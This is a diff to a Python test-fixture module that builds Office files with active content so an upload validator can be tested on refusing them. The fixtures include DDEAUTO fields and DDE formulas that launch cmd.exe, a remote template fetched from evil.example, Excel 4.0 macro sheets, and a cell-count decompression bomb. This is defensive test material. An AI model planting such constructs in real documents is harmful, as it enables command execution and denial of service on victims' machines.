@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import io
 import os
+import re
 import struct
 import zipfile
 import zlib
@@ -81,8 +82,9 @@ def plain_zip() -> bytes:
     return _zip([("readme.txt", b"not an office file")])
 
 
-def compound(stream: str) -> bytes:
-    """An OLE2 compound file (Word/Excel 97-2003 container) holding one 4 KiB stream."""
+def compound(stream: str, content: bytes | None = None) -> bytes:
+    """An OLE2 compound file (Word/Excel 97-2003 container) holding one 4 KiB stream
+    (``content`` padded with zeros, else random bytes)."""
     end, free, fat_sect, no_stream = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
     header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16
               + struct.pack("<HHHHH6sIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, b"\0" * 6, 0, 1, 1, 0,
@@ -98,9 +100,98 @@ def compound(stream: str) -> bytes:
 
     directory = (entry("Root Entry", 5, 1, end, 0) + entry(stream, 2, no_stream, 2, 4096)
                  + entry("", 0, no_stream, 0, 0) * 2)
-    return header + struct.pack("<128I", *fat) + directory + os.urandom(4096)
+    body = content.ljust(4096, b"\0") if content is not None else os.urandom(4096)
+    return header + struct.pack("<128I", *fat) + directory + body[:4096]
 
 
 ELF = b"\x7fELF\x02\x01\x01\x00" + b"\0" * 56 + os.urandom(512)
 EXE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\0" * 56 + os.urandom(512)
 TEXT = "这不是PDF，只是改了名字的文本文件。\n".encode() * 20
+
+
+# Office files with active content: each must be refused with its reason.
+
+def _docx_with(document: bytes, *extra: tuple[str, bytes]) -> bytes:
+    ctype = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
+    return _zip([("[Content_Types].xml", _CT.format(part="word/document.xml",
+                                                    ctype=ctype).encode()),
+                 ("word/document.xml", document), *extra])
+
+
+def _xlsx_with(*extra: tuple[str, bytes]) -> bytes:
+    with zipfile.ZipFile(io.BytesIO(xlsx())) as base:
+        members = [(n, base.read(n)) for n in base.namelist()]
+    return _zip(members + list(extra))
+
+
+def docx_dde() -> bytes:
+    """A DDEAUTO field split over two runs, as malicious documents do."""
+    return _docx_with(b'<w:document><w:r><w:instrText xml:space="preserve"> DD</w:instrText>'
+                      b'</w:r><w:r><w:instrText>EAUTO c:\\windows\\system32\\cmd.exe "/k calc"'
+                      b"</w:instrText></w:r></w:document>")
+
+
+def docx_remote_template() -> bytes:
+    rels = (b'<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
+            b'officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/'
+            b't.dotm" TargetMode="External"/></Relationships>')
+    return _docx_with(b"<w:document/>", ("word/_rels/settings.xml.rels", rels))
+
+
+def docx_hyperlink() -> bytes:
+    """An ordinary external hyperlink: allowed (nothing is fetched on opening)."""
+    rels = (b'<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
+            b'officeDocument/2006/relationships/hyperlink" Target="https://shop.example.com/1"'
+            b' TargetMode="External"/></Relationships>')
+    return _docx_with(b"<w:document/>", ("word/_rels/document.xml.rels", rels))
+
+
+def xlsx_xlm() -> bytes:
+    return _xlsx_with(("xl/macrosheets/sheet2.xml", b"<xm:macrosheet/>"))
+
+
+def xlsx_dde_link() -> bytes:
+    return _xlsx_with(("xl/externalLinks/externalLink1.xml",
+                       b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/>'
+                       b"</externalLink>"))
+
+
+def xlsx_dde_formula() -> bytes:
+    return _xlsx_with(("xl/worksheets/sheet9.xml",
+                       b"<worksheet><sheetData><row><c><f>cmd|' /C calc'!A0</f></c></row>"
+                       b"</sheetData></worksheet>"))
+
+
+def _biff(*records: tuple[int, bytes]) -> bytes:
+    bof = (0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0, 0, 0, 0))
+    return b"".join(struct.pack("<HH", k, len(b)) + b for k, b in (bof, *records, (0x0A, b"")))
+
+
+def xls_macro_sheet() -> bytes:
+    """An Excel 97-2003 workbook whose second sheet is an Excel 4.0 macro sheet."""
+    sheet = struct.pack("<IBB", 0, 0, 0x01) + b"\x06\x00Macro1"
+    return compound("Workbook", _biff((0x0085, sheet)))
+
+
+def xls_external_book() -> bytes:
+    path = b"\x01" + "C:\\evil.xls".encode("ascii")
+    return compound("Workbook", _biff((0x01AE, struct.pack("<HH", 1, len(path)) + b"\x00"
+                                       + path)))
+
+
+def doc_dde() -> bytes:
+    return compound("WordDocument", b"\0" * 512 + "DDEAUTO cmd".encode("utf-16-le"))
+
+
+def declaring(data: bytes, ref: str) -> bytes:
+    """``data`` (an XLSX) with its first sheet's dimension rewritten to ``ref``: the
+    ``A1:XFD1048576`` bomb declares 17 billion cells in a few kilobytes."""
+    src, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
+        for name in src.namelist():
+            part = src.read(name)
+            if name == "xl/worksheets/sheet1.xml":
+                part = re.sub(rb'<dimension ref="[^"]*"', f'<dimension ref="{ref}"'.encode(),
+                              part)
+            dst.writestr(name, part)
+    return out.getvalue()
